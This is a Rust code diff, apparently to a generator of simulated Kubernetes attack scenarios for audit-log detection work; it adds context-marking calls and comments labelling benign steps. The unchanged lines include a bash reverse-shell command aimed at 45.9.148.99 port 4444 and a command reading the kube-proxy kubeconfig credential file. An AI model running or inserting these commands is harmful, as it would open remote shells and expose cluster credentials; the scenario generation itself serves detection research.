@@ -423,6 +423,7 @@ fn kubelet_nodes_proxy(p: &mut Plan<'_>, _: &Actors, t: i64) {
         .target("list", r::NODES, "", "", "")
         .query("limit=500");
     p.commit();
+    p.context();
     let t1 = step(p, &mut at, 10_000, 40_000);
     req(p, t1, &h.id, 0, ip, "")
         .target("get", r::NODES, "", &node_name, "proxy")
@@ -439,6 +440,8 @@ fn kubelet_nodes_proxy(p: &mut Plan<'_>, _: &Actors, t: i64) {
         true,
         &c.kubelet_client.reason,
     );
+    // The kubelet asks about the API server's own client certificate: evidence, not an attack.
+    p.context();
     let kp = c.addons.kube_proxy.inst_pod(node as u64).unwrap_or(app_pod);
     let runs = [
         (kp, "cat /var/lib/kube-proxy/kubeconfig.conf"),
@@ -468,6 +471,7 @@ fn kubelet_nodes_proxy(p: &mut Plan<'_>, _: &Actors, t: i64) {
             true,
             &c.kubelet_client.reason,
         );
+        p.context();
     }
 }
 
@@ -521,6 +525,8 @@ fn cluster_admin_binding(p: &mut Plan<'_>, _: &Actors, t: i64) {
         .reason(sys_reason)
         .not_found();
     p.commit();
+    // kubectl apply looks before it creates: not an attack on its own
+    p.context();
     let t1 = step(p, &mut at, 300, 2_000);
     let r = req(p, t1, ci, 0, ip, "");
     r.target("create", r::CLUSTERROLEBINDINGS, "", "", "")
@@ -795,6 +801,7 @@ fn reverse_shell(p: &mut Plan<'_>, _: &Actors, t: i64) {
     let mut at = t;
     req(p, at, &h.id, 0, ip, "").target("get", r::PODS, pod.ns, &pod.name, "");
     p.commit();
+    p.context();
     let cmd: &[&str] = &["bash", "-c", "bash -i >& /dev/tcp/45.9.148.99/4444 0>&1"];
     let mut q = String::new();
     for part in cmd {
@@ -977,6 +984,7 @@ fn legacy_token_secret(p: &mut Plan<'_>, a: &Actors, t: i64) {
     let kcm = &c.kcm;
     req(p, tk, kcm, 0, "", "").target("update", r::SECRETS, "kube-system", &secret, "");
     p.commit();
+    p.context();
     let t2 = step(p, &mut at, 2_000, 10_000);
     req(p, t2, &a.admin, 0, ip, KUBECTL_128).target("get", r::SECRETS, "kube-system", &secret, "");
     p.commit();
@@ -1011,6 +1019,7 @@ fn legacy_token_secret(p: &mut Plan<'_>, a: &Actors, t: i64) {
             let r = req(p, tl, &c.apiserver, 0, "", "");
             r.target("patch", r::SECRETS, "kube-system", &secret, "");
             p.commit();
+            p.context();
             first = false;
         }
     }
@@ -1058,6 +1067,7 @@ fn policy_weakening(p: &mut Plan<'_>, _: &Actors, t: i64) {
         .target("list", r::NETWORKPOLICIES, "payments", "", "")
         .query("limit=500");
     p.commit();
+    p.context();
     let t1 = step(p, &mut at, 10_000, 60_000);
     let r = req(p, t1, &h.id, 0, ip, "");
     r.target(
@@ -1300,6 +1310,7 @@ fn nodeport_exposure(p: &mut Plan<'_>, _: &Actors, t: i64) {
         .target("list", r::SERVICES, "storefront", "", "")
         .query("limit=500");
     p.commit();
+    p.context();
     let t1 = step(p, &mut at, 15_000, 90_000);
     let r = req(p, t1, &h.id, 0, ip, "");
     r.target("create", r::SERVICES, "storefront", "", "")
